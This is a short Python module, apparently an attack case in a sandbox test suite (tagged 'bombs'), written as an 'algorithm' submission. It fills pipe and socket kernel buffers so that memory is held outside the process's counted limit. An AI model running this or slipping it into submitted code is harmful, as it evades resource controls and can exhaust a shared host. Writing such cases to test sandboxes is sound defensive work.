"""Keeps memory where its limit does not count it: in the buffers of pipes and sockets."""
# family: bombs

import os

from attack import attempted, module


def algorithm(question):
    socket = module("socket")
    kept, held = [], 0
    attempted()
    for make in (os.pipe, socket.socketpair):
        for _ in range(200):
            try:
                pair = make()
            except OSError:
                break
            kept.append(pair)
            end = pair[1] if isinstance(pair[1], int) else pair[1].fileno()
            os.set_blocking(end, False)
            try:
                while True:
                    held += os.write(end, b"x" * 65536)
            except OSError:
                pass
    return len(kept) > 100 and held > 8 << 20
